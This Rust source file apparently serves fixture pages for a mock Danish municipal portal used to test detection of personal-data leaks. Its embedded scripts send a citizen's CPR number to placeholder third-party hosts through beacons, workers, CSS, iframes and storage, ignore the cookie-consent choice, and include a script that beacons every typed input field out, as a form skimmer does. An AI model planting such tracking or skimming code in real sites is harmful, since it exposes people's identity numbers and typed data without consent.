//! Pages that do what they should not: what each plants stands in [`super::planted()`].

use super::citizens::Citizen;
use super::frame::{is_post, kept, link, number_form, page, tells_address};
use super::traps::FAREWELL;
use super::{ARCHIVE, COUNTER, HELP_DESK, HOME, LETTERS, MAP, MIRROR, NEIGHBOUR, Options, PAYMENTS, POSTER, RECEIPT};

use crate::{Received, Reply};

/// Asks for consent in own words, and tells the poster before, after a no and after a yes.
const CONSENT: &str = "const sig = (svar) => navigator.sendBeacon('https://POSTER/' + svar, svar + '_borger=NUMMER');
const husk = (svar) => { document.cookie = 'samtykke=' + svar + '; Path=/oversigt; Secure';
  document.querySelector('#samtykke').remove(); sig(svar); };
const givet = document.cookie.match(/samtykke=(nej|ja)/)?.[1];
if (givet) { document.querySelector('#samtykke').remove(); sig(givet); } else { sig('foer'); }";

/// The banner.
const BANNER: &str = "<div id=samtykke role=dialog aria-label=Cookies style=\"position:fixed;bottom:0\">Vi bruger cookies. \
    <button type=button onclick=\"husk('nej')\">Afvis alle</button> <button type=button onclick=\"husk('ja')\">Accepter\
    </button></div>";

/// Tells the counter a digest of what is typed.
const DIGEST: &str = "document.querySelector('[name=cpr]').addEventListener('change', async (event) => {
  const bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(event.target.value));
  const hex = [...new Uint8Array(bytes)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  navigator.sendBeacon('https://COUNTER/tilmeldt?hem=' + hex); });";

/// One request by each kind of initiator; the worker and the style sheet are files of their own.
const INITIATORS: &str = "<link rel=stylesheet href=\"/statisk/stil.css?borger=NUMMER\"><div id=baggrund>.</div>
<img src=\"https://POSTER/billede?billede=NUMMER\" alt=\"\"><script>
fetch('https://POSTER/indlejret?indlejret=NUMMER', {mode: 'no-cors'});
navigator.sendBeacon('https://POSTER/fyr?fyr=NUMMER');
new Worker('/statisk/arbejder.js').postMessage('https://POSTER/arbejder?arbejder=NUMMER');
</script><script src=\"/statisk/fil.js\" data-til=\"https://POSTER/fil?fil=NUMMER\"></script>";

/// Lets a service worker tell the help desk.
const SERVICE_WORKER: &str =
    "navigator.serviceWorker.register('/tjenestearbejder.js').then(() => navigator.serviceWorker.ready)
  .then((klar) => klar.active.postMessage('https://HELP_DESK/tjeneste?borger=NUMMER'));";

/// Keeps the number in the browser, in each place that a page has.
const STORAGE: &str =
    "localStorage.setItem('borger', 'NUMMER'); sessionStorage.setItem('sag', JSON.stringify({cpr: 'NUMMER'}));
document.cookie = 'sidste_borger=NUMMER; Path=/lager; Secure';";

/// What one who is signed in sees of these.
pub(super) fn answer(options: Options, citizen: &Citizen, received: &Received) -> Option<Reply> {
    let number = citizen.number.as_str();
    let filled = |text: &str| {
        let hosts = [("HELP_DESK", HELP_DESK), ("COUNTER", COUNTER), ("POSTER", POSTER), ("NUMMER", number)];
        hosts.iter().fold(text.to_owned(), |text, (name, value)| text.replace(name, value))
    };
    let script = |text: &str| format!("<script>{}</script>", filled(text));
    Some(match received.path() {
        HOME => page("Dit overblik", &format!("{}{BANNER}{}", menu(options), script(CONSENT))),
        RECEIPT => page("Tak for din ansøgning", "<p>Den er modtaget.</p>"),
        "/adresse" => page("Flytning", &number_form("adresse", "get", "/adresse/svar", "cpr")),
        "/adresse/svar" => tells_address(page(
            "Din flytning",
            &format!(
                "<script src=\"https://{COUNTER}/maal.js\" referrerpolicy=no-referrer></script>\
                 <img src=\"https://{MAP}/flise.gif\" alt=\"\">{}",
                link(&format!("https://{NEIGHBOUR}/"), "Nabobyen")
            ),
        )),
        "/tilmelding" if is_post(received) => page("Tak for din tilmelding", ""),
        "/tilmelding" => {
            page("Tilmelding", &(number_form("tilmelding", "post", "/tilmelding", "cpr") + &script(DIGEST)))
        }
        "/postkasse" => page("Postkassen", "<img src=\"/postkasse/brev.gif\" alt=\"\">")
            .with_header("Set-Cookie", format!("modtager={number}; Path=/postkasse; Secure; HttpOnly")),
        "/postkasse/brev.gif" => Reply::gif(),
        "/gammel" => {
            page("Den gamle blanket", &number_form("gammel", "post", &format!("http://{ARCHIVE}/modtag"), "cpr"))
        }
        "/gammel/tak" => page("Tak for blanketten", ""),
        "/rammer" => page(
            "Gebyrer",
            &format!(
                "<iframe title=Gebyr src=\"https://{PAYMENTS}/felt?kunde={number}\"></iframe>\
                 <iframe title=Kort src=\"https://{MAP}/kort\"></iframe>\
                 <iframe title=Arkiv src=\"https://{ARCHIVE}/ramme\"></iframe>"
            ),
        ),
        "/tjeneste" => page("Beskeder om din sag", &script(SERVICE_WORKER)),
        "/lager" => page("Dine seneste sager", &script(STORAGE)),
        "/attest" => kept(page(&format!("Attest for {number}"), &format!("<p>CPR-nummer {number}</p>"))),
        "/kontakt" => page(
            "Kontakt",
            &link(
                &format!("mailto:sag@byen.test?subject=Sag%20{number}&amp;body=Mit%20CPR-nummer%20er%20{number}"),
                "Skriv til os",
            ),
        ),
        "/ydelser/sygedagpenge" => {
            page("Sygedagpenge", &format!("<script src=\"https://{COUNTER}/maal.js\"></script>"))
        }
        "/initiativ" => page("Det sker i byen", &filled(INITIATORS)),
        "/statisk/stil.css" => {
            Reply::css(format!("#baggrund {{ background: url(\"https://{POSTER}/stil?stil={number}\") }}"))
        }
        _ => return None,
    })
}

/// What everybody sees of these.
pub(super) fn open(received: &Received) -> Option<Reply> {
    Some(match received.path() {
        "/bestil" if is_post(received) => page("Tak for bestillingen", ""),
        "/bestil" => page(
            "Bestil et kort",
            &format!(
                "{}<img src=\"https://{LETTERS}/skrift.gif\" alt=\"\">",
                number_form("bestil", "post", "/bestil", "cpr")
            ),
        ),
        "/tjenestearbejder.js" => {
            Reply::js("onmessage = (message) => message.waitUntil(fetch(message.data, { mode: 'no-cors' }));\n")
        }
        "/statisk/arbejder.js" => Reply::js("onmessage = (message) => fetch(message.data, { mode: 'no-cors' });\n"),
        "/statisk/fil.js" => {
            Reply::js("const til = document.currentScript.dataset.til;\nfetch(til, { mode: 'no-cors' });\n")
        }
        _ => return None,
    })
}

/// The links of the first page after the log-in.
fn menu(options: Options) -> String {
    let farewell = if options.farewell { link(FAREWELL, "På gensyn i byen") } else { String::new() };
    farewell + &super::MENU.iter().map(|(path, text)| link(path, text)).collect::<String>()
}

/// The mirror's script: it tells what is typed, as it is typed, long before anything is sent.
pub(super) fn mirror() -> String {
    format!(
        "for (const felt of document.querySelectorAll('input')) felt.addEventListener('change', () => \
         navigator.sendBeacon('https://{MIRROR}/spejlet', JSON.stringify({{ [felt.name]: felt.value }})));\n"
    )
}

/// The counter's script: it tells where it runs.
pub(super) fn counter() -> String {
    format!("new Image().src = 'https://{COUNTER}/maal?side=' + encodeURIComponent(location.href);\n")
}
